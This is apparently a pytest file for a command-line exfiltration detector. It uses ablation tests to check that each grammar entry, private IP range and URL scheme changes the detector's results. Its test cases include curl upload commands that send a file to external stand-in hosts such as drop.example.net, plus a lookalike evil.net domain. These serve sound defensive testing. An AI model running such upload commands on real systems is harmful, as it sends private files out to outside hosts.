"""Every grammar entry and every exclusion matters: each has a true positive and a near miss of its own
(ablation_cases.py), and deleting any one of them, one at a time, changes the outcome of at least one of its
cases. An entry whose deletion changes nothing is dead weight or untested; either way this fails."""
from __future__ import annotations

import copy

import pytest

from app.detection.analyzer import analyze, destination, weigh
from app.detection.analyzer.destination import InternalNetworks
from app.detection.analyzer.grammar import load

from .ablation_cases import FILE, QUIET, T2, T3, entries

ENTRIES = list(entries())
# Entries that are one setting of a tool rather than an element of a table (deleting them = a value no one types)
SETTINGS = {"transfer", "command", "upload_switch", "subcommand", "connect", "code_switch", "alt_code_switch",
            "combine", "destination"}


def outcome(command_line, image):
    verdicts = weigh(analyze(command_line, image), InternalNetworks.build())
    return frozenset((v.technique, v.destination_class, v.host, v.encrypted, v.channel) for v in verdicts)


def kept(command_line, image):
    return frozenset(t for t, where, *_ in outcome(command_line, image) if where != "internal")


def _delete(path):
    """Deletes the entry in the loaded grammar in place; returns a function that restores the grammar."""
    name, *keys, last = path
    root = load(name)
    saved = copy.deepcopy(root)
    parent = root
    for key in keys:
        parent = parent[key]
    if isinstance(parent, list):
        parent.remove(last)
    elif last in SETTINGS:                    # a tool's one switch or setting: made unmatchable
        parent[last] = (not parent[last]) if isinstance(parent[last], bool) else "\0deleted"
    else:
        del parent[last]

    def restore():
        root.clear()
        root.update(saved)
    return restore


def test_every_entry_has_a_true_positive_and_a_near_miss_of_its_own():
    missing, wrong = [], []
    for label, _, cases in ENTRIES:
        if not any(expect for _, _, expect in cases) or len({expect for _, _, expect in cases}) < 2:
            missing.append(label)
        for command_line, image, expect in cases:
            if kept(command_line, image) != expect:
                wrong.append((label, command_line, sorted(kept(command_line, image)), sorted(expect)))
    assert missing == [] and wrong == []


def test_deleting_any_grammar_entry_changes_a_result():
    inert = []
    for label, path, cases in ENTRIES:
        before = [outcome(cl, image) for cl, image, _ in cases]
        restore = _delete(path)
        try:
            after = [outcome(cl, image) for cl, image, _ in cases]
        finally:
            restore()
        if after == before:
            inert.append(label)
    assert inert == [], "deleting these changed no case: dead entries, or their cases do not test them"
    assert len(ENTRIES) > 300


PRIVATE = [("10.0.0.0/8", "10.200.1.5", "11.0.0.1"), ("172.16.0.0/12", "172.31.255.1", "172.32.0.1"),
           ("192.168.0.0/16", "192.168.7.7", "192.169.0.1"), ("100.64.0.0/10", "100.127.0.9", "100.128.0.1"),
           ("169.254.0.0/16", "169.254.3.3", "169.255.0.1"), ("fc00::/7", "[fd12::5]", "[fe00::5]"),
           ("fe80::/10", "[fe80::1]", "[2001:db8::1]")]


@pytest.mark.parametrize("network, inside, outside", PRIVATE)
def test_each_private_range_excludes_its_own_addresses_and_no_more(network, inside, outside, monkeypatch):
    upload = "curl.exe -T " + FILE + " https://{}/in"
    assert kept(upload.format(inside), "curl.exe") == QUIET          # near miss: inside the range
    assert kept(upload.format(outside), "curl.exe") == T2             # true positive: just outside it
    assert network in destination.PRIVATE_NETWORKS
    monkeypatch.setattr(destination, "PRIVATE_NETWORKS", tuple(n for n in destination.PRIVATE_NETWORKS if n != network))
    assert kept(upload.format(inside), "curl.exe") == T2, f"deleting {network} must let its addresses through"


def test_every_private_range_has_its_case():
    assert {n for n, _, _ in PRIVATE} == set(destination.PRIVATE_NETWORKS)


@pytest.mark.parametrize("scheme", sorted(destination.SCHEMES))
def test_each_scheme_decides_the_technique(scheme, monkeypatch):
    upload = f"curl.exe -T {FILE} {scheme}://drop.example.net/in"
    expect = T2 if destination.SCHEMES[scheme] else T3
    other = "http" if destination.SCHEMES[scheme] else "https"
    assert kept(upload, "curl.exe") == expect
    assert kept(f"curl.exe -T {FILE} {other}://drop.example.net/in", "curl.exe") != expect   # its near miss
    before = outcome(upload, "curl.exe")
    monkeypatch.delitem(destination.SCHEMES, scheme)
    assert outcome(upload, "curl.exe") != before


def test_declared_networks_and_domains_and_loopback():
    internal = InternalNetworks.build(["203.0.113.0/24"], ["*.example-corp.com"], loopback_internal=False)
    assert internal.classify("203.0.113.9") == "internal" and internal.classify("203.0.114.9") == "external"
    assert internal.classify("sftp.example-corp.com") == "internal"
    assert internal.classify("example-corp.com.evil.net") == "external"
    assert internal.classify("127.0.0.1") == "loopback" and internal.classify("localhost") == "loopback"
    assert InternalNetworks.build(loopback_internal=True).classify("127.0.0.1") == "internal"
    assert InternalNetworks.build(["not a network"]).classify("10.1.1.1") == "internal"
